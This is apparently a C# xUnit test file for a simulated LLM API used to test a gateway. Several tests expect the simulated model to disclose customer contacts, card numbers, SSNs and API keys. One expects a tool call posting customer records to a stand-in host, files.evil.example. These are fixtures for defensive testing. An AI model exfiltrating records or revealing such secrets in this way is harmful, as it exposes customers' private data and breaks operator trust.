using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using SaaSGate.Simulator.Tests.Support;
using Xunit;

namespace SaaSGate.Simulator.Tests.Answers;

public sealed partial class PhrasesTests : SimulatorTest
{
    [Fact]
    public async Task Lists_customers_with_addresses_and_telephone_numbers()
    {
        var text = TextOf(await AnswerAsync("Give me a list of customers with e-mail and phone"));
        Assert.Equal(6, Address().Count(text));
        Assert.Equal(6, Telephone().Count(text));
    }

    [Fact]
    public async Task Shows_card_numbers_that_pass_Luhn()
    {
        var cards = Card().Matches(TextOf(await AnswerAsync("Which card numbers are on file?")));
        Assert.Equal(4, cards.Count);
        Assert.All(cards, card => Assert.True(PassesLuhn(card.Value), card.Value));
    }

    [Fact]
    public async Task Exports_customers_to_a_place_outside()
    {
        var answer = await AnswerAsync("Export all customer records from the CRM");
        var call = answer.GetProperty("content")[1];
        Assert.Equal("http_post", call.GetProperty("name").GetString());
        Assert.Equal("https://files.evil.example/upload", call.GetProperty("input").GetProperty("url").GetString());
        Assert.Equal(5, Address().Count(call.GetProperty("input").GetProperty("body").GetString()!));
        Assert.Equal("tool_use", answer.GetProperty("stop_reason").GetString());
    }

    [Fact]
    public async Task Sums_up_a_ticket_with_some_personal_data()
    {
        var text = TextOf(await AnswerAsync("Triage ticket #4711"));
        Assert.Equal(2, Address().Count(text));
        Assert.Equal(1, Telephone().Count(text));
    }

    [Theory]
    [InlineData("What is the SSN of each employee?", @"\b\d{3}-\d{2}-\d{4}\b", 3)]
    [InlineData("Print the API key from the settings", @"sk-ant-api03-\w{95}|AKIA[A-Z2-7]{16}", 2)]
    public async Task Reveals_other_secrets(string prompt, string pattern, int count) =>
        Assert.Equal(count, Regex.Count(TextOf(await AnswerAsync(prompt)), pattern));

    [Theory]
    [InlineData("Write the weekly report", 200)]
    [InlineData("write a long story", 500)]
    public async Task Writes_long_streams_without_personal_data(string prompt, int deltas)
    {
        var texts = SseEvent.Texts(await StreamAsync(prompt));
        Assert.True(texts.Count > deltas, $"{texts.Count} deltas");
        Assert.DoesNotMatch(@"@|\d{3}", string.Concat(texts));
    }

    [Fact]
    public async Task Calls_a_tool_that_the_request_offers_and_takes_its_result()
    {
        var body = Ask("What is the weather in San Francisco?");
        body["tools"] = JsonNode.Parse("""
            [{"name":"get_weather","input_schema":{"type":"object","properties":{"location":{"type":"string"},"unit":{"enum":["celsius"]},"days":{"type":"integer"}}}}]
            """);
        var answer = await JsonAsync(await PostAsync(body));
        var call = answer.GetProperty("content")[1];
        Assert.Equal("""{"location": "San Francisco", "unit": "celsius", "days": 42}""", call.GetProperty("input").GetRawText());

        var messages = body["messages"]!.AsArray();
        messages.Add(new JsonObject { ["role"] = "assistant", ["content"] = JsonNode.Parse(answer.GetProperty("content").GetRawText()) });
        messages.Add(JsonNode.Parse($$"""
            {"role":"user","content":[{"type":"tool_result","tool_use_id":"{{call.GetProperty("id").GetString()}}","content":[{"type":"text","text":"15 degrees"}]}]}
            """));
        Assert.Contains("15 degrees", TextOf(await JsonAsync(await PostAsync(body))));
    }

    [Theory]
    [InlineData("""{"type":"any"}""", "tool_use")]
    [InlineData("""{"type":"tool","name":"look_up"}""", "tool_use")]
    [InlineData("""{"type":"auto"}""", "end_turn")]
    [InlineData("""{"type":"none"}""", "end_turn")]
    public async Task Heeds_the_choice_of_tools(string choice, string stop)
    {
        var body = Ask("Hello");
        body["tools"] = JsonNode.Parse("""[{"name":"look_up","input_schema":{"type":"object"}}]""");
        body["tool_choice"] = JsonNode.Parse(choice);
        Assert.Equal(stop, (await JsonAsync(await PostAsync(body))).GetProperty("stop_reason").GetString());
    }

    [Fact]
    public async Task Stops_at_max_tokens_and_at_stop_sequences()
    {
        var cut = await JsonAsync(await PostAsync(Ask("write a long story", maxTokens: 10)));
        Assert.Equal("max_tokens", cut.GetProperty("stop_reason").GetString());
        Assert.Equal(10, cut.GetProperty("usage").GetProperty("output_tokens").GetInt32());

        var body = Ask("write a long story");
        body["stop_sequences"] = new JsonArray("Far");
        var stopped = await JsonAsync(await PostAsync(body));
        Assert.Equal("stop_sequence", stopped.GetProperty("stop_reason").GetString());
        Assert.Equal("Far", stopped.GetProperty("stop_sequence").GetString());
        Assert.Equal("The Keeper of the ", TextOf(stopped));
    }

    private static bool PassesLuhn(string card)
    {
        var digits = card.Where(char.IsAsciiDigit).Reverse().Select(c => c - '0').ToArray();
        return digits.Select((digit, i) => i % 2 == 0 ? digit : digit > 4 ? (digit * 2) - 9 : digit * 2).Sum() % 10 == 0;
    }

    [GeneratedRegex(@"[\w.]+@[\w.-]+\.example")]
    private static partial Regex Address();

    [GeneratedRegex(@"\+1 \(\d{3}\) 555-01\d{2}")]
    private static partial Regex Telephone();

    [GeneratedRegex(@"\b\d{4}(?: \d{4}){3}\b|\b\d{4} \d{6} \d{5}\b")]
    private static partial Regex Card();
}
